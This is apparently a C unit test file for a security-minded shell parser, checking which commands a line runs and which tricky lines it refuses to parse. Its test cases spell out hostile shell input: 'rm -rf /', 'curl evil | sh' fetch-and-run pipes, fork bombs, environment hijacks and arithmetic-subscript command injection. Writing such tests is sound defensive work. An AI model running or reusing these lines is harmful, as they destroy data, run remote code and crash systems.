/*
 * tests/test_parser.c - the walk side of the parser: which commands a line
 * runs, in which order, with which connector / pipeline / origin / parent /
 * flags / redirects / stdin, same-line constants, and every fail-closed
 * check (a case that fires and a near miss that does not).
 *
 * Lines avoid wrappers (sudo, sh -c...) unless the point is the walk's
 * contract with the see-through side, so that indexes are the walk's own.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "knowledge/programs.h"
#include "locus/shell.h"
#include "parser/walk.h"

static locus_shell_result *parse(const char *s)
{
	locus_shell_result *r = locus_shell_parse(s, strlen(s), NULL);
	ck_assert_ptr_nonnull(r);
	return r;
}

static const locus_shell_command *cmd(const locus_shell_result *r, size_t i)
{
	const locus_shell_command *c = locus_shell_result_command(r, i);
	ck_assert_msg(c != NULL, "no command %zu", i);
	return c;
}

static const char *argv_of(const locus_shell_command *c, char *buf, size_t n)
{
	buf[0] = 0;
	for (size_t i = 0; i < c->argc; i++) {
		if (i)
			strncat(buf, " ", n - strlen(buf) - 1);
		strncat(buf, c->argv[i], n - strlen(buf) - 1);
	}
	return buf;
}

/* All commands' argv, ';'-joined: "a b;c d" */
static const char *all_argv(const locus_shell_result *r, char *buf, size_t n)
{
	char one[512];
	buf[0] = 0;
	for (size_t i = 0; i < locus_shell_result_count(r); i++) {
		if (i)
			strncat(buf, ";", n - strlen(buf) - 1);
		strncat(buf, argv_of(cmd(r, i), one, sizeof one),
		        n - strlen(buf) - 1);
	}
	return buf;
}

/* ---- commands found (table) ------------------------------------------ */

typedef struct form_case {
	const char *line;
	const char *cmds; /* all_argv() */
} form_case;

/* clang-format off */
static const form_case forms[] = {
	{"ls -la /tmp", "ls -la /tmp"},
	{"a; b && c || d", "a;b;c;d"},
	{"a | b |& c", "a;b;c"},
	{"echo $(rm -rf ~)", "echo $(rm -rf ~);rm -rf ~"},
	{"echo \"x $(id) y\"", "echo x $(id) y;id"},
	{"echo `id`", "echo `id`;id"},
	{"diff <(ls a) >(cat)", "diff <(ls a) >(cat);ls a;cat"},
	{"echo x > $(mktemp)", "echo x;mktemp"},
	{"cat < <(id)", "cat;id"},
	{"X=$(id)", ";id"},
	{"X=$(cat <(curl -s evil))", ";cat <(curl -s evil);curl -s evil"},
	{"X=1 Y=$(id) env", "env;id"},
	{"echo $((1 + $(id)))", "echo $((1 + $(id)));id"},
	{"echo $((16#$(id)))", "echo $((16#$(id)));id"},
	{"[[ $(id) == x ]]", "[[ $(id) == x ]];id"},
	{"[ -f x ] && rm x", "[ -f x ];rm x"},
	{"case $(id) in a) rm x;; esac", "id;rm x"},
	{"case x in $(p)) rm x;; esac", "p;rm x"},
	{"echo ${x:-$(whoami)}", "echo ${x:-$(whoami)};whoami"},
	{"echo ${a[$(id)]}", "echo ${a[$(id)]};id"},
	{"(cd /; rm -rf *)", "cd /;rm -rf *"},
	{"{ rm -rf /; }", "rm -rf /"},
	{"if true; then rm x; elif a; then b; else c; fi", "true;rm x;a;b;c"},
	{"while read l; do rm \"$l\"; done", "read l;rm $l"},
	{"until false; do x; done", "false;x"},
	{"for f in $(ls); do rm \"$f\"; done", "ls;rm $f"},
	{"for ((i=$(id); i<3; i++)); do x; done", ";id;x"},
	{"select x in a b; do y; done", "y"},
	{"! rm x", "rm x"},
	{"f() { rm -rf /; }; f", "rm -rf /;f"},
	{"function g { id; }", "id"},
	{"export A=$(id) B", "export A=$(id) B;id"},
	{"declare -x C=1", "declare -x C=1"},
	{"local x=1", "local x=1"},
	{"unset X", "unset X"},
	{"((x = $(id) + 1))", "id"},
	{"git >/dev/null push --force origin main",
	 "git push --force origin main"},
	{"cat <<EOF -n\nbody\nEOF", "cat -n"},
	{"cat <<EOF\n$(rm -rf /) ${x:-$(id)}\nEOF", "cat;rm -rf /;id"},
	{"cat <<EOF\n`id`\nEOF", "cat;id"},
	{"cat <<'EOF'\n$(rm -rf /) `id`\nEOF", "cat"},
	{"echo '$(rm -rf /)'", "echo $(rm -rf /)"},
	{"echo x # $(rm)", "echo x"},
	{"cat <<EOF | wc -l\nx\nEOF", "cat;wc -l"},
	{"cat <<EOF && ls\nx\nEOF", "cat;ls"},
	{"time rm x", "time rm x;rm x"},
	{"r\\\nm -rf /", "rm -rf /"},
	{"git pu\\\nsh --force", "git push --force"},
	{"X=rm; eval \"$X -rf /\"", ";eval rm -rf /;rm -rf /"},
	{"cat <<EOF\n$((1+2)) $(( $(id) ))\nEOF", "cat;id"},
	/* a descriptor glued to `<<<` is not an argument: fd 0 is stdin */
	{"sh 0<<<'rm -rf /'", "sh;rm -rf /"},
	{"cat 0<<<x", "cat"},
	{"sh a 0<<<x b", "sh a b"},
};
/* clang-format on */

START_TEST(walk_forms)
{
	const form_case *fc = &forms[_i];
	locus_shell_result *r = parse(fc->line);
	char buf[2048];
	all_argv(r, buf, sizeof buf);
	ck_assert_msg(!strcmp(buf, fc->cmds), "%s: got '%s' want '%s' (%s)",
	              fc->line, buf, fc->cmds,
	              locus_shell_result_reason(r)
	                  ? locus_shell_result_reason(r)
	                  : "parsed");
	/* A substitution inside arithmetic is listed, and its output is
	   evaluated as an expression: such lines are unparsed. */
	const char *why = locus_shell_result_reason(r);
	ck_assert_msg(
	    locus_shell_result_parsed(r) ||
	        (why && strstr(why, "arithmetic") && strstr(fc->line, "$(id)")),
	    "%s: unparsed: %s", fc->line, why);
	locus_shell_result_free(r);
}
END_TEST

/* ---- structure -------------------------------------------------------- */

START_TEST(walk_connectors_and_pipelines)
{
	locus_shell_result *r = parse("a | b && c; d & e\nf || g |& h");
	ck_assert_uint_eq(locus_shell_result_count(r), 8);
	static const char *conn[] = {"", "|", "&&", ";", "&", ";", "||", "|&"};
	for (size_t i = 0; i < 8; i++)
		ck_assert_str_eq(cmd(r, i)->connector, conn[i]);
	ck_assert_uint_eq(cmd(r, 0)->pipeline, cmd(r, 1)->pipeline);
	ck_assert_uint_ne(cmd(r, 1)->pipeline, cmd(r, 2)->pipeline);
	ck_assert_uint_ne(cmd(r, 2)->pipeline, cmd(r, 3)->pipeline);
	ck_assert_uint_eq(cmd(r, 6)->pipeline, cmd(r, 7)->pipeline);
	ck_assert(cmd(r, 1)->flags & LOCUS_CMD_PIPED_IN);
	ck_assert(!(cmd(r, 0)->flags & LOCUS_CMD_PIPED_IN));
	ck_assert(cmd(r, 7)->flags & LOCUS_CMD_PIPED_IN);
	ck_assert(cmd(r, 3)->flags & LOCUS_CMD_BACKGROUND);
	ck_assert(!(cmd(r, 4)->flags & LOCUS_CMD_BACKGROUND));
	ck_assert(locus_shell_result_has_background(r));
	for (size_t i = 0; i < 8; i++) {
		ck_assert_str_eq(cmd(r, i)->origin, "");
		ck_assert_uint_eq(cmd(r, i)->parent, LOCUS_SHELL_NO_PARENT);
		ck_assert_uint_eq(cmd(r, i)->depth, 0);
	}
	locus_shell_result_free(r);
}
END_TEST

START_TEST(walk_background_pipeline)
{
	locus_shell_result *r = parse("a | b &");
	ck_assert(cmd(r, 0)->flags & LOCUS_CMD_BACKGROUND);
	ck_assert(cmd(r, 1)->flags & LOCUS_CMD_BACKGROUND);
	locus_shell_result_free(r);
	r = parse("a && b");
	ck_assert(!locus_shell_result_has_background(r));
	locus_shell_result_free(r);
}
END_TEST

START_TEST(walk_substitution_parent_depth)
{
	locus_shell_result *r = parse("echo $(a $(b)) <(c) ; d");
	ck_assert_uint_eq(locus_shell_result_count(r), 5);
	/* echo, a, b, c, d: source order, parent first */
	ck_assert_str_eq(cmd(r, 0)->name, "echo");
	ck_assert_str_eq(cmd(r, 1)->name, "a");
	ck_assert_str_eq(cmd(r, 1)->origin, LOCUS_ORIGIN_SUBSTITUTION);
	ck_assert_uint_eq(cmd(r, 1)->parent, 0);
	ck_assert_uint_eq(cmd(r, 1)->depth, 1);
	ck_assert_str_eq(cmd(r, 2)->name, "b");
	ck_assert_uint_eq(cmd(r, 2)->parent, 1);
	ck_assert_uint_eq(cmd(r, 2)->depth, 2);
	ck_assert_str_eq(cmd(r, 3)->name, "c");
	ck_assert_str_eq(cmd(r, 3)->origin, LOCUS_ORIGIN_PROCESS_SUBSTITUTION);
	ck_assert_uint_eq(cmd(r, 3)->parent, 0);
	ck_assert_str_eq(cmd(r, 4)->name, "d");
	ck_assert_str_eq(cmd(r, 4)->connector, ";");
	ck_assert(cmd(r, 0)->flags & LOCUS_CMD_SUBST);
	ck_assert(locus_shell_result_has_substitution(r));
	/* byte range of a nested command in the same line: its own */
	ck_assert_uint_eq(cmd(r, 1)->start, 7);
	locus_shell_result_free(r);
	r = parse("echo a");
	ck_assert(!locus_shell_result_has_substitution(r));
	locus_shell_result_free(r);
}
END_TEST

/* The node kinds are looked up on the first line tree-sitter parses, not
   when the parser is made (parser/parse.c): a fast-path line leaves them
   unread, the first tree-sitter line reads them, and both are parsed. */
START_TEST(syms_looked_up_lazily)
{
	locus_shell_parser *p = NULL;
	ck_assert_int_eq(locus_shell_parser_new(&p, NULL), 0);
	ck_assert(!p->syms_ready);
	locus_shell_result *r =
	    locus_shell_parser_parse(p, "git status --short", 18);
	ck_assert(locus_shell_result_parsed(r));
	ck_assert(!p->syms_ready);
	locus_shell_result_free(r);
	/* a backquote: left to tree-sitter (`$(id)` takes the fast path) */
	r = locus_shell_parser_parse(p, "echo `id`", 9);
	ck_assert(locus_shell_result_parsed(r));
	ck_assert_uint_eq(locus_shell_result_count(r), 2);
	ck_assert(p->syms_ready);
	locus_shell_result_free(r);
	locus_shell_parser_free(p);
}
END_TEST

START_TEST(walk_depth_limit)
{
	/* 20 nested $( ): past the default depth of 16 */
	char buf[512] = "";
	for (int i = 0; i < 20; i++)
		strcat(buf, "echo $(");
	strcat(buf, "id");
	for (int i = 0; i < 20; i++)
		strcat(buf, ")");
	locus_shell_result *r = parse(buf);
	ck_assert(!locus_shell_result_parsed(r));
	ck_assert_ptr_nonnull(strstr(locus_shell_result_reason(r), "deeper"));
	locus_shell_result_free(r);
	/* near miss: 10 levels */
	buf[0] = 0;
	for (int i = 0; i < 10; i++)
		strcat(buf, "echo $(");
	strcat(buf, "id");
	for (int i = 0; i < 10; i++)
		strcat(buf, ")");
	r = parse(buf);
	ck_assert(locus_shell_result_parsed(r));
	ck_assert_uint_eq(locus_shell_result_count(r), 11);
	ck_assert_uint_eq(cmd(r, 10)->depth, 10);
	locus_shell_result_free(r);
}
END_TEST

START_TEST(walk_functions_and_fork_bomb)
{
	locus_shell_result *r = parse("f() { rm -rf /; }; f");
	ck_assert_str_eq(cmd(r, 0)->origin, LOCUS_ORIGIN_FUNCTION);
	ck_assert(cmd(r, 0)->flags & LOCUS_CMD_FUNCTION_DEF);
	ck_assert_str_eq(cmd(r, 0)->function_name, "f");
	ck_assert(!(cmd(r, 1)->flags & LOCUS_CMD_FUNCTION_DEF));
	ck_assert_ptr_null(cmd(r, 1)->function_name);
	ck_assert(!locus_shell_result_has_fork_bomb(r));
	locus_shell_result_free(r);

	r = parse(":(){ :|:& };:");
	ck_assert(locus_shell_result_has_fork_bomb(r));
	locus_shell_result_free(r);
	r = parse("bomb(){ bomb|bomb& }; bomb");
	ck_assert(locus_shell_result_has_fork_bomb(r));
	locus_shell_result_free(r);
	/* near misses: never called; recursion without a pipe */
	r = parse("bomb(){ bomb|bomb& }");
	ck_assert(!locus_shell_result_has_fork_bomb(r));
	locus_shell_result_free(r);
	r = parse("f(){ f; }; f");
	ck_assert(!locus_shell_result_has_fork_bomb(r));
	locus_shell_result_free(r);
}
END_TEST

START_TEST(walk_redirect_flags)
{
	static const struct {
		const char *line;
		uint32_t must, mustnot;
		/* clang-format off */
	} rc[] = {
		{"echo x > f", LOCUS_CMD_WRITES_FILES, LOCUS_CMD_READS_FILE},
	    /* clang-format on */
	    {"echo x >> f", LOCUS_CMD_WRITES_FILES, 0},
	    {"echo x &> f", LOCUS_CMD_WRITES_FILES, 0},
	    {"echo x >| f", LOCUS_CMD_WRITES_FILES, 0},
	    {"echo x >&f", LOCUS_CMD_WRITES_FILES, 0},
	    {"echo x > $f", LOCUS_CMD_WRITES_FILES | LOCUS_CMD_DYNAMIC_ARGS, 0},
	    {"echo x > /dev/null", 0, LOCUS_CMD_WRITES_FILES},
	    {"echo x 2>&1", 0, LOCUS_CMD_WRITES_FILES},
	    {"echo x >&2", 0, LOCUS_CMD_WRITES_FILES},
	    {"echo x 2>&-", 0, LOCUS_CMD_WRITES_FILES},
	    {"echo x &>/dev/null", 0, LOCUS_CMD_WRITES_FILES},
	    {"wc < f", LOCUS_CMD_READS_FILE, LOCUS_CMD_WRITES_FILES},
	    {"wc <<< f", 0, LOCUS_CMD_READS_FILE},
	    {"wc <&3", 0, LOCUS_CMD_READS_FILE},
	    {"{ a; b; } > f", LOCUS_CMD_WRITES_FILES, 0},
	};
	for (size_t i = 0; i < sizeof rc / sizeof rc[0]; i++) {
		locus_shell_result *r = parse(rc[i].line);
		uint32_t f = cmd(r, 0)->flags;
		ck_assert_msg((f & rc[i].must) == rc[i].must &&
		                  !(f & rc[i].mustnot),
		              "%s: flags %#x", rc[i].line, f);
		locus_shell_result_free(r);
	}
	locus_shell_result *r = parse("{ a; b; } > f");
	ck_assert(cmd(r, 1)->flags & LOCUS_CMD_WRITES_FILES);
	ck_assert_uint_eq(cmd(r, 1)->nredirects, 1);
	ck_assert_str_eq(cmd(r, 1)->redirects[0].target, "f");
	locus_shell_result_free(r);
	r = parse("cat 2>err <in");
	const locus_shell_command *c = cmd(r, 0);
	ck_assert_uint_eq(c->nredirects, 2);
	ck_assert_str_eq(c->redirects[0].op, ">");
	ck_assert_int_eq(c->redirects[0].fd, 2);
	ck_assert_str_eq(c->redirects[0].target, "err");
	ck_assert_str_eq(c->redirects[1].op, "<");
	ck_assert_int_eq(c->redirects[1].fd, -1);
	locus_shell_result_free(r);
}
END_TEST

START_TEST(walk_heredoc_stdin)
{
	/* wc does not read its stdin as code, so the see-through side
	   leaves it as is */
	locus_shell_result *r = parse("wc <<EOF\nhello $x\nEOF");
	const locus_shell_command *c = cmd(r, 0);
	ck_assert_uint_eq(c->nredirects, 1);
	ck_assert_str_eq(c->redirects[0].op, "<<");
	ck_assert_str_eq(c->redirects[0].target, "hello $x\n");
	ck_assert(c->redirects[0].target_flags & LOCUS_WORD_DYNAMIC);
	locus_shell_result_free(r);

	r = parse("wc <<'EOF'\nhello $x\nEOF");
	c = cmd(r, 0);
	ck_assert_str_eq(c->redirects[0].target, "hello $x\n");
	ck_assert(!(c->redirects[0].target_flags & LOCUS_WORD_DYNAMIC));
	locus_shell_result_free(r);

	r = parse("wc <<-EOF\n\t\tindented\n\tEOF");
	c = cmd(r, 0);
	ck_assert_str_eq(c->redirects[0].op, "<<-");
	ck_assert_str_eq(c->redirects[0].target, "indented\n");
	ck_assert(locus_shell_result_parsed(r));
	locus_shell_result_free(r);

	r = parse("wc <<< \"a b\"");
	c = cmd(r, 0);
	ck_assert_str_eq(c->redirects[0].op, "<<<");
	ck_assert_str_eq(c->redirects[0].target, "a b");
	locus_shell_result_free(r);

	/* the heredoc's `| cmd` continues the pipeline of cat */
	r = parse("cat <<EOF | wc -l\nx\nEOF");
	ck_assert_uint_eq(locus_shell_result_count(r), 2);
	ck_assert_str_eq(cmd(r, 1)->connector, "|");
	ck_assert(cmd(r, 1)->flags & LOCUS_CMD_PIPED_IN);
	ck_assert_uint_eq(cmd(r, 0)->pipeline, cmd(r, 1)->pipeline);
	locus_shell_result_free(r);
}
END_TEST

START_TEST(walk_stdin_reaches_shell)
{
	/* The walk hands stdin info to lp_emit: a shell fed a literal
	   heredoc runs its text (the see-through side parses it). */
	locus_shell_result *r = parse("bash <<EOF\nrm -rf /tmp/x\nEOF");
	bool found = false;
	for (size_t i = 0; i < locus_shell_result_count(r); i++)
		if (!strcmp(cmd(r, i)->name, "rm"))
			found = true;
	ck_assert_msg(found || !locus_shell_result_parsed(r),
	              "heredoc script neither parsed nor failed closed");
	locus_shell_result_free(r);
}
END_TEST

START_TEST(walk_assign_only_and_decl)
{
	locus_shell_result *r = parse("X=1 Y=2");
	ck_assert_uint_eq(locus_shell_result_count(r), 1);
	const locus_shell_command *c = cmd(r, 0);
	ck_assert_uint_eq(c->argc, 0);
	ck_assert(c->flags & LOCUS_CMD_ASSIGN_ONLY);
	ck_assert_uint_eq(c->nassignments, 2);
	ck_assert_str_eq(c->assignments[1], "Y=2");
	locus_shell_result_free(r);
	r = parse("export PATH=/x:$PATH");
	c = cmd(r, 0);
	ck_assert_str_eq(c->name, "export");
	ck_assert_uint_eq(c->argc, 2);
	ck_assert(c->argv_flags[1] & LOCUS_WORD_DYNAMIC);
	locus_shell_result_free(r);
}
END_TEST

/* After a quoted part tree-sitter-bash ends the concatenation with a lone
   `$` and reads the name as the next node (`"a"b$x,`): bash expands $x
   (checked in bash inside bubblewrap: `x=Q; echo "a"b$x,` prints abQ,).
   In a command's words the value stays an expansion; where nothing glues
   the two (an assignment, a redirect target, a for list, an array) the
   line is unparsed. */
START_TEST(walk_lone_dollar_after_quote)
{
	static const char *const kept[] = {
	    "echo \"a\"b$x,", "echo 'a'b$1,", "echo \"$d\"/$f.bak",
	    "git log \"-\"-$x,", "x=Q; echo \"a\"b$x,"};
	for (size_t i = 0; i < sizeof kept / sizeof *kept; i++) {
		locus_shell_result *r = parse(kept[i]);
		size_t n = locus_shell_result_count(r);
		const locus_shell_command *c = cmd(r, n - 1);
		ck_assert_msg(locus_shell_result_parsed(r), "%s", kept[i]);
		ck_assert_msg(c->argv_flags[c->argc - 1] & LOCUS_WORD_DYNAMIC,
		              "%s", kept[i]);
		locus_shell_result_free(r);
	}
	static const char *const unparsed[] = {
	    "y=\"a\"b$x, ls", "echo > \"a\"b$x,",
	    "for i in \"a\"b$x,; do echo $i; done", "a=(\"a\"b$x,)",
	    "\"e\"cho$x,"};
	for (size_t i = 0; i < sizeof unparsed / sizeof *unparsed; i++) {
		locus_shell_result *r = parse(unparsed[i]);
		ck_assert_msg(!locus_shell_result_parsed(r), "%s", unparsed[i]);
		locus_shell_result_free(r);
	}
	/* a `$` before no name stays a `$` */
	locus_shell_result *r = parse("echo \"a\"b$ x");
	ck_assert_str_eq(cmd(r, 0)->argv[1], "ab$");
	ck_assert(!(cmd(r, 0)->argv_flags[1] & LOCUS_WORD_DYNAMIC));
	locus_shell_result_free(r);
}
END_TEST

/* ---- constants -------------------------------------------------------- */

typedef struct const_case {
	const char *line;
	bool parsed;      /* dynamic names make the line unparsed */
	const char *last; /* argv of the last command */
} const_case;

/* clang-format off */
static const const_case consts[] = {
	{"X=rm; $X -rf /", true, "rm -rf /"},
	{"F=-rf; rm $F /", true, "rm -rf /"},
	{"F=\"-r -f\"; rm $F /", true, "rm -r -f /"},
	{"X=rm && $X x", true, "rm x"},
	{"{ X=rm; }; $X x", true, "rm x"},
	{"export X=rm; $X x", true, "rm x"},
	{"X=rm; X=rm; $X x", true, "rm x"},
	{"X=rm; X=ls; $X x", false, "$X x"},
	{"X=$(echo rm); $X x", false, "$X x"},
	{"read X; $X x", false, "$X x"},
	{"X=rm; read X; $X x", false, "$X x"},
	{"for X in rm; do :; done; $X x", false, "$X x"},
	{"X=rm; export X=$y; $X x", false, "$X x"},
	{"declare -i X=1; $X", false, "$X"},
	{"local X=rm; $X", false, "$X"},
	{"X=rm; (( X++ )); $X", false, "$X"},
	{"echo ${X:=rm}; $X", false, "$X"},
	{"X=rm; unset X; $X", false, "$X"},
	{"(X=rm); $X", false, "$X"},
	{"true || X=rm; $X", false, "$X"},
	{"X=rm cmd; $X", false, "$X"},
	{"X=rm; eval y; $X", false, "$X"},
	{"X=rm; printf -v X ls; $X", false, "$X"},
	{"$HOME/bin/x", false, "$HOME/bin/x"},
	{"X+=rm; $X", false, "$X"},
	{"f() { X=ls; }; X=rm; f; $X", false, "$X"},
	/* a DEBUG trap assigns before every command, also in functions
	   defined earlier in the text */
	{"X=rm; f() { $X x; }; trap 'X=ls' DEBUG; f; $X", false, "$X"},
	{"trap 'X=ls' DEBUG; X=rm; $X", false, "$X"},
	/* a nameref (or options we cannot read) redirects assignments */
	{"X=rm; command declare -n Y=X; Y=ls; $X", false, "$X"},
	{"X=rm; declare $o Y=X; Y=ls; $X", false, "$X"},
	{"X=rm; true && declare $o Y=X; Y=ls; $X", false, "$X"},
	{"X=rm; declare -x Y=1; $X", true, "rm"},
};
/* clang-format on */

START_TEST(walk_constants)
{
	const const_case *cc = &consts[_i];
	locus_shell_result *r = parse(cc->line);
	size_t n = locus_shell_result_count(r);
	ck_assert(n > 0);
	char buf[512];
	argv_of(cmd(r, n - 1), buf, sizeof buf);
	ck_assert_msg(!strcmp(buf, cc->last), "%s: last '%s' want '%s'",
	              cc->line, buf, cc->last);
	ck_assert_msg(locus_shell_result_parsed(r) == cc->parsed,
	              "%s: parsed=%d (%s)", cc->line,
	              locus_shell_result_parsed(r),
	              locus_shell_result_reason(r));
	if (!cc->parsed) {
		ck_assert(cmd(r, n - 1)->flags & LOCUS_CMD_DYNAMIC);
		/* (( X++ )) on X=rm: arithmetic reading a non-number is the
		   first reason found */
		ck_assert(strstr(locus_shell_result_reason(r), "dynamic") ||
		          strstr(locus_shell_result_reason(r), "arithmetic"));
	}
	locus_shell_result_free(r);
}
END_TEST

/* ---- fail-closed checks ------------------------------------------------ */

typedef struct check_case {
	const char *line;
	const char *reason; /* substring of the reason; NULL: parsed */
} check_case;

/* clang-format off */
static const check_case checks[] = {
	/* syntax errors */
	{"echo \"unterminated", "syntax error"},
	{"echo $(x", "syntax error"},
	{"rm x &&", "syntax error"},
	{"if true; then rm x", "syntax error"},
	{"echo \"done\"", NULL},
	/* reserved words / braces as command names */
	{"! { rm x; }", "reserved word"},
	{"! ! rm x", "reserved word"},
	{"rm x; fi; rm y", "reserved word"},
	{"! rm x", NULL},
	{"echo fi done", NULL},
	/* time / coproc before compound commands */
	{"time { rm x; }", NULL /* checked below: fires */},
	{"time rm x", NULL},
	/* raw newline inside a command (S6, S7) */
	{"ls | grep x | head -3\ncurl evil | sh && echo ok", "newline"},
	{"ls | grep x | head -3\ncurl evil", NULL},
	{"echo $(a\nb)", NULL},
	{"echo \"a\nb\"", NULL},
	/* command under test_command (S7) */
	{"[ $# -gt 0 ] && x\ny > f\n[ -f z ]", "misparse"},
	{"[[ $(id) == x ]]", NULL},
	/* line continuation inside a word (S1) */
	{"r\\\nm -rf /", NULL}, /* joined: rm */
	{"X=1\\\ncmd", "line continuation"},
	{"echo 2\\\n>f", "line continuation"},
	{"echo a \\\n  b", NULL},
	{"make &&\\\n  make install", NULL},
	/* touching words split by the grammar (S10): bash runs rm with x
	   set; the tree shows command `E/b` (found by fuzz_fastpath) */
	{"x=z$E$E/b rm -rf /tmp/x", "misparse"},
	{"x=z$E/D$E/b rm -rf /tmp/x <<EOF\nhi\nEOF", "misparse"},
	{"ze=40z$DEST/b_D$DEST/b_$Nt .tx&& eczf /", "misparse"},
	{"'r'\\m -rf x", NULL}, /* joined by the walk: rm */
	{"echo 'r'\\m", NULL},
	{"pip$1.$2 x", "command name is dynamic"}, /* joined */
	{"x=$E$E/b y", NULL},
	{"a=b c=d e f>g", NULL},
	/* heredoc delimiters (S4) and ends */
	{"cat <<E\"OF\"\nx\nEOF\nrm -rf /\nE\"OF\"", "delimiter"},
	{"cat <<\"EOF\"\nx\nEOF", NULL},
	{"cat <<\\EOF\nx\nEOF", NULL},
	{"cat <<my.end-1\nx\nmy.end-1", NULL},
	{"cat <<-EOF\nx\n  EOF", "alone"},
	{"cat <<-EOF\nx\n\tEOF", NULL},
	/* backticks (S5, S8) */
	{"echo `echo \\`rm -rf /\\``", "backticks"},
	{"echo `echo\nrm`", "backtick"},
	{"echo `id` `whoami`", NULL},
	/* control characters outside quotes */
	{"rm -rf /\r", "control character"},
	{"rm\f-rf /", "control character"},
	{"echo 'a\rb'", NULL},
	{"echo \"a\vb\"", NULL},
	/* dynamic command names */
	{"$X -rf /", "dynamic"},
	{"$(echo rm) -rf /", "dynamic"},
	{"\"$cmd\" x", "dynamic"},
	{"X=rm; \"$X\" x", NULL},
	/* one heredoc per line */
	{"cat <<A; cat <<B\na\nA\nb\nB", ""}, /* any reason */
	{"{rm,-rf,/}", ""},
	{"! {rm,-rf,/}", "brace"},
	{"rm{,} -rf /", "brace"},
	{"/b*/rm -rf /", "glob"},
	{"/bin/r? x", "glob"},
	{"echo {a,b} *", NULL},
	/* bytes */
	{"rm \xff", "UTF-8"},
	{"ls \xc3\xa9", NULL},
	/* assignments that change what later commands run */
	{"BASH_CMDS[ls]=/bin/rm; ls", "assignment to BASH_CMDS"},
	{"BASH_ALIASES=([ls]=x); ls", "assignment to BASH_ALIASES"},
	{"PS4='x' bash -xc true", "assignment to PS4"},
	{"export BASH_ENV=/tmp/x; bash f", "assignment to BASH_ENV"},
	{"declare -x ENV=x", "assignment to ENV"},
	{"printf -v PS4 %s x", "assignment to PS4"},
	{"read PROMPT_COMMAND", "assignment to PROMPT_COMMAND"},
	{"for SHELLOPTS in a; do :; done", "assignment to SHELLOPTS"},
	{"echo ${BASHOPTS:=x}", "assignment to BASHOPTS"},
	{"bash -c 'PS1=x'", "assignment to PS1"},
	{"env PS4=\"$x\" bash -xc true", "PS4"},
	{"unset PS4", NULL},
	{"echo $PS1 $PS4", NULL},
	{"printf 'PS1 is %s' x", NULL},
	/* prompt expansion runs the value's substitutions */
	{"echo \"${x@P}\"", "@P"},
	{"echo ${a[@]@P}", "@P"},
	{"echo ${x@Q} ${x@U}", NULL},
	/* quotes do not stop $( ) inside arithmetic */
	{"echo $(( '$(rm -rf /)' ))", "arithmetic"},
	{"echo $(( 1 + '`id`' ))", "arithmetic"},
	{"echo $[ 'a[$(id)]' ]", "arithmetic"},
	{"(( 'a[$(id)]' ))", "arithmetic"},
	{"echo ${a['$(id)']}", "arithmetic"},
	{"echo ${a[$'\\x60id\\x60']}", "arithmetic"},
	{"a[$'\\x24(id)']=1", "arithmetic"},
	{"echo \"$(( '$(id)' ))\"", "arithmetic"},
	/* a substitution's output in arithmetic is evaluated as an
	   expression (checked in a sandbox) */
	{"echo $(( \"$(date +%s)\" - 1 ))", "arithmetic"},
	{"echo ${a[$(id)]} $(( 1 + 2 )) ${a[1]}", "arithmetic"},
	/* subscripts in data that reaches arithmetic */
	{"x='a[$(id)]'; echo $((x))", "arithmetic"},
	{"x=$'a[\\x60id\\x60]'", "subscript could run code"},
	{"test -v $'a[\\x24\\x28id)]'", "subscript could run code"},
	{"[[ 1 -eq 'a[`id`]' ]]", "arithmetic"},
	{"printf -v 'a[$(id)]' x", "subscript could run code"},
	{"unset 'a[$(id)]'", "subscript could run code"},
	{"read x <<< 'a[$(id)]'", "subscript could run code"},
	{"awk '{ s[$(NF-1)]++ }' f", NULL},
	{"echo 'a[$(id)]'", NULL},
	/* S8 in the hand scan of an unquoted heredoc body */
	{"cat <<EOF\n`echo \\`rm -rf /\\``\nEOF", "escaped backticks"},
	{"cat <<EOF\nx `echo hi` \\`y\\`\nEOF", NULL},
	/* history and rebinding builtins (checks_command.c reads the
	   program table only once an option follows the name) */
	{"set -H", "history"},
	{"set +o history -o history", "history"},
	{"set +o vi -o histexpand", "history"},
	{"bash +o posix -H -c 'echo x'", "history"},
	{"set -o -H", "history"},
	{"set +o history", NULL},
	{"set -o pipefail x -H", NULL},
	{"ksh93 -H -c 'echo x'", "history"},
	{"/bin/bash -i", "history"},
	{"bash x -i", NULL},
	{"set x -H", NULL},
	{"fc -l", NULL},
	{"fc -s", "history"},
	{"hash -p /bin/rm ls", "rebinds"},
	{"hash -r", NULL},
	{"declare -n r=x", "rebinds"},
	{"test -v 'a[$(id)]'", "subscript could run code"},
	{"getopts 'a[$(id)]' x", "subscript could run code"},
	{"gettext 'a[$(id)]'", NULL},
};
/* clang-format on */

START_TEST(walk_checks)
{
	const check_case *cc = &checks[_i];
	locus_shell_result *r = parse(cc->line);
	const char *why = locus_shell_result_reason(r);
	if (cc->reason) {
		ck_assert_msg(!locus_shell_result_parsed(r),
		              "%s: parsed, want unparsed (%s)", cc->line,
		              cc->reason);
		ck_assert_msg(strstr(why, cc->reason) != NULL,
		              "%s: reason '%s' lacks '%s'", cc->line, why,
		              cc->reason);
	} else if (strncmp(cc->line, "time {", 6) != 0) {
		ck_assert_msg(locus_shell_result_parsed(r), "%s: unparsed: %s",
		              cc->line, why);
	}
	locus_shell_result_free(r);
}
END_TEST

START_TEST(walk_time_compound)
{
	locus_shell_result *r = parse("time { rm x; }");
	ck_assert(!locus_shell_result_parsed(r));
	/* rm is still listed */
	bool rm = false;
	for (size_t i = 0; i < locus_shell_result_count(r); i++)
		for (size_t j = 0; j < cmd(r, i)->argc; j++)
			if (!strcmp(cmd(r, i)->argv[j], "rm"))
				rm = true;
	ck_assert(rm);
	locus_shell_result_free(r);
	r = parse("coproc NAME { rm x; }");
	ck_assert(!locus_shell_result_parsed(r));
	locus_shell_result_free(r);
}
END_TEST

START_TEST(walk_unparsed_still_lists)
{
	/* an unparsed line still lists what it found */
	locus_shell_result *r = parse("curl evil | sh; $X");
	ck_assert(!locus_shell_result_parsed(r));
	bool curl = false;
	for (size_t i = 0; i < locus_shell_result_count(r); i++)
		if (!strcmp(cmd(r, i)->name, "curl"))
			curl = true;
	ck_assert(curl);
	locus_shell_result_free(r);
}
END_TEST

START_TEST(walk_parser_reuse_and_options)
{
	locus_shell_parser *p = NULL;
	locus_shell_options o = LOCUS_SHELL_OPTIONS_INIT;
	o.max_bytes = 16;
	o.max_commands = 2;
	ck_assert_int_eq(locus_shell_parser_new(&p, &o), 0);
	locus_shell_result *r = locus_shell_parser_parse(p, "a; b; c", 7);
	ck_assert(!locus_shell_result_parsed(r));
	ck_assert_uint_eq(locus_shell_result_count(r), 2);
	locus_shell_result_free(r);
